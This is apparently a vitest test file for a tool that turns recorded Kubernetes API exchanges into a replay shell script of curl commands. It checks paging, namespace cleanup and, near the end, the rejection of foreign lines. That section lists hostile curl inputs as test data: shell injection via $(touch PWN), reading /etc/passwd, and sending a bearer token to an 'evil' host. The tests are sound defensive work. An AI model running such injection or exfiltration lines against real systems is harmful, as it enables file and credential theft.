import { execFile, execFileSync } from 'node:child_process';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { promisify } from 'node:util';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { curlProblem } from '../../client/curl/curl-problem.ts';
import { curlOf } from '../../client/curl.ts';
import type { Exchange } from '../../client/exchange.ts';
import { acceptedCurlLine } from './accepted-curl-line.ts';
import { curlScript } from './curl-script.ts';

interface Recorded {
  readonly seq: number;
  readonly actor: string;
  readonly method: string;
  readonly path: string;
  readonly status: number;
  readonly failure: null;
  readonly responseBody: string | null;
  readonly curl: string;
}
const script = new Function(`${curlScript}; return script;`)() as (
  list: readonly Recorded[],
  base: string,
  shown?: readonly number[],
) => string;
const recorded = (
  base: string,
  seq: number,
  method: string,
  path: string,
  responseBody: string | null,
  body?: string,
): Recorded => ({
  seq,
  actor: 'admin',
  method,
  path,
  status: 200,
  failure: null,
  responseBody,
  curl: `curl -sS -i -X ${method}${body === undefined ? '' : ` --data-binary '${body}'`} '${base}${path}'`,
});
const blank: Omit<Exchange, 'request' | 'actor'> = {
  seq: 1,
  startedMs: 0,
  ms: 1,
  response: null,
  failure: null,
  json: undefined,
  frames: null,
};
const hasCurl = ((): boolean => {
  try {
    execFileSync('curl', ['--version']);
    return true;
  } catch {
    return false;
  }
})();

it.skipIf(!hasCurl)(
  'on a living server the script pages, and writes with the versions and uids, that this server gives',
  async () => {
    const seen: string[] = [];
    const server = createServer((request, response) => {
      let body = '';
      request.on('data', (chunk) => {
        body += chunk;
      });
      request.on('end', () => {
        seen.push(`${request.method} ${request.url} ${body}`);
        response.end(
          '{"metadata":{"resourceVersion":"9001","continue":"new+to/ken=="},' +
            '"items":[{"metadata":{"uid":"new-a","resourceVersion":"9002"}},' +
            '{"metadata":{"uid":"new-b","resourceVersion":"9003"}}]}',
        );
      });
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    const base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
    const first =
      '{"metadata":{"resourceVersion":"10","continue":"old="},' +
      '"items":[{"metadata":{"uid":"a","resourceVersion":"11"}},{"metadata":{"uid":"b","resourceVersion":"12"}}]}';
    const text = script(
      [
        recorded(base, 1, 'GET', '/x?limit=2', first),
        recorded(base, 2, 'GET', '/x?limit=2&continue=old%3D', null),
        recorded(base, 3, 'PUT', '/x/b', null, '{"metadata":{"uid":"b","resourceVersion":"12"},"port":"12"}'),
        recorded(base, 4, 'GET', '/x?resourceVersion=10&watch=true', null),
      ],
      base,
    );
    try {
      await promisify(execFile)('/bin/sh', ['-c', text]);
    } finally {
      server.closeAllConnections();
      await new Promise((resolve) => server.close(resolve));
    }
    expect(seen).toEqual([
      'GET /x?limit=2 ',
      'GET /x?limit=2&continue=new%2Bto%2Fken%3D%3D ',
      'PUT /x/b {"metadata":{"uid":"new-b","resourceVersion":"9003"},"port":"12"}',
      'GET /x?resourceVersion=9001&watch=true ',
    ]);
  },
);

describe.skipIf(!hasCurl)('a script of a finding', () => {
  const list = (name: string, items: number): string =>
    JSON.stringify({
      metadata: { resourceVersion: String(name.length) },
      items: Array.from({ length: items }, () => ({ metadata: { name: 'a', namespace: name, uid: `uid-${name}` } })),
    });

  /** Runs the script of a list with three items in a namespace on a server that answers the list in this way. */
  const repeated = async (status: number, items: number, ...words: readonly string[]) => {
    const seen: string[] = [];
    const namespace = words[0] ?? 'pc-abc-ns-1';
    const server = createServer((request, response) => {
      seen.push(`${request.method} ${request.url}`);
      request.resume();
      request.on('end', () => {
        if (request.method === 'POST') response.writeHead(201).end(`{"metadata":{"name":"${namespace}"}}`);
        else response.writeHead(status).end(list(namespace, items));
      });
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    const base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
    const create = { ...recorded(base, 1, 'POST', '/api/v1/namespaces', '{}', '{"metadata":{"name":"pc-abc-ns-1"}}') };
    const text = script(
      [
        { ...create, status: 201 },
        recorded(base, 2, 'GET', '/api/v1/namespaces/pc-abc-ns-1/pods?limit=2', list('pc-abc-ns-1', 3)),
      ],
      base,
      [2],
    );
    try {
      const { stdout } = await promisify(execFile)('/bin/sh', ['-c', text, 'sh', ...words]);
      return { code: 0, stdout, seen };
    } catch (error) {
      const { code, stdout } = error as { code: number; stdout: string };
      return { code, stdout, seen };
    } finally {
      server.closeAllConnections();
      await new Promise((resolve) => server.close(resolve));
    }
  };

  it('says that the finding was reproduced, and deletes what it created', async () => {
    const { code, stdout, seen } = await repeated(200, 3);
    expect(stdout).toMatch(/^REPRODUCED/m);
    expect(code).toBe(0);
    expect(seen).toEqual([
      'POST /api/v1/namespaces',
      'GET /api/v1/namespaces/pc-abc-ns-1/pods?limit=2',
      'DELETE /api/v1/namespaces/pc-abc-ns-1',
    ]);
  });

  it('uses another namespace, and compares the content all the same', async () => {
    const { code, seen } = await repeated(200, 3, 'mine');
    expect(code).toBe(0);
    expect(seen.slice(1)).toEqual(['GET /api/v1/namespaces/mine/pods?limit=2', 'DELETE /api/v1/namespaces/mine']);
  });

  it.each([
    ['another status', 500, 3, 1, /^exchange 2: status 500 instead of 200\n\nNOT REPRODUCED/m],
    ['another content', 200, 2, 2, /^exchange 2: status 200 as recorded, other content\n\nUNCLEAR/m],
  ])('says so when the response has %s', async (_name, status, items, code, message) => {
    expect(await repeated(status, items)).toMatchObject({ code, stdout: expect.stringMatching(message) });
  });

  it('accepts only names as arguments', async () => {
    const { code, seen } = await repeated(200, 3, 'a/b');
    expect(code).toBe(2);
    expect(seen).toEqual([]);
  });
});

it('a sequence that rests on no answer is left as it was', () => {
  const text = script([recorded('http://s', 1, 'GET', '/x', '{}')], 'http://s');
  expect(text).toMatch(/^curl -sS -i -X GET "\$SERVER"'\/x'$/m);
  expect(text).not.toMatch(/mktemp|tee/);
});

const foreign = (curl: unknown, over: Partial<Recorded> = {}): Recorded => ({
  ...recorded('http://s', 1, 'GET', '/x', null),
  ...over,
  curl: curl as string,
});

it.each([
  ['another command', "touch PWN; curl -sS -i -X GET 'http://s/x'"],
  ['a command behind it', "curl -sS -i -X GET 'http://s/x'; touch PWN"],
  ['a command on the next line', "curl -sS -i -X GET 'http://s/x'\ntouch PWN"],
  ['a command in a word', `curl -sS -i -X GET -H "a: $(touch PWN)" 'http://s/x'`],
  ['a command in a number', `curl -sS -i -X GET -H 'a'"$(printf '\\001'; touch PWN)"'' 'http://s/x'`],
  ['a line that was cut', "curl -sS -i -X GET --data-raw 'a… (9000 characters)"],
  ['a file to read', "curl -sS -i -X POST --data-binary '@/etc/passwd' 'http://s/x'"],
  ['a file to read, quoted twice', "curl -sS -i -X POST --data-binary '''@/etc/passwd' 'http://s/x'"],
  ['headers of a file', "curl -sS -i -X GET -H '@/etc/passwd' 'http://s/x'"],
  ['a file to write', "curl -sS -i -X GET -o 'PWN' 'http://s/x'"],
  ['a file of options', "curl -sS -i -K 'x' -X GET 'http://s/x'"],
  ['another server', `curl -sS -i -X GET -H "Authorization: Bearer $TOKEN" 'http://evil/x'`],
  ['another server behind user information', "curl -sS -i -X GET 'http://s@evil/x'"],
  ['a second server', "curl -sS -i -X GET 'http://evil/x' 'http://s/x'"],
  ['a file of the disk', "curl -sS -i -X GET 'file:///etc/passwd'"],
  ['no text', 7],
])('a report with %s in place of a curl line sends nothing', (_name, curl) => {
  const text = script([foreign(curl)], 'http://s');
  expect(text).toMatch(/^# not sent: /m);
  expect(text.split('\n').filter((line) => !/^(#.*|SERVER=.*|: .*|)$/.test(line))).toEqual([]);
});

it.each([['http://s$(touch PWN)'], ['http://s"; touch PWN; "'], ['http://s}\ntouch PWN'], ['file:///'], ['x']])(
  'the address %j of a foreign report is not written into the script',
  (base) => {
    const text = script([foreign(`curl -sS -i -X GET '${base}/x'`)], base);
    expect(text).not.toContain('SERVER=');
    expect(text).toMatch(/^: "\$\{SERVER:\?/m);
    expect(text).toMatch(/^# not sent: /m);
  },
);

it('a comment of a foreign report stays on its line', () => {
  const text = script([foreign("curl -sS -i -X GET 'http://s/x'", { actor: 'a\ntouch PWN\r\n\u2028' })], 'http://s');
  expect(text).toContain('# 1. a\\ntouch PWN\\r\\n\\u2028: GET /x, was 200\n');
});

it('every line that planecheck writes is taken', () => {
  fc.assert(
    fc.property(
      fc.record({
        method: fc.oneof(fc.constantFrom('GET', 'HEAD', 'POST'), fc.string({ minLength: 1 })),
        path: fc.string({ unit: 'binary' }),
        headers: fc.array(fc.tuple(fc.constantFrom('Authorization', 'X-A', 'Accept'), fc.string({ unit: 'binary' }))),
        body: fc.option(
          fc.oneof(
            fc.uint8Array(),
            fc.string({ unit: 'binary' }).map((text) => Buffer.from(text)),
          ),
        ),
        actor: fc.constantFrom('admin', 'anonymous'),
        base: fc.constantFrom('http://s', 'https://s:6443/prefix'),
      }),
      ({ method, path, headers, body, actor, base }) => {
        const request = { method, url: `${base}/${path}`, path, headers, body };
        fc.pre(curlProblem(request, base) === null);
        const line = curlOf({ ...blank, actor, request });
        const accepted = acceptedCurlLine(line);
        expect(accepted && accepted.before + accepted.url).toBe(line);
      },
    ),
    { numRuns: 300 },
  );
});
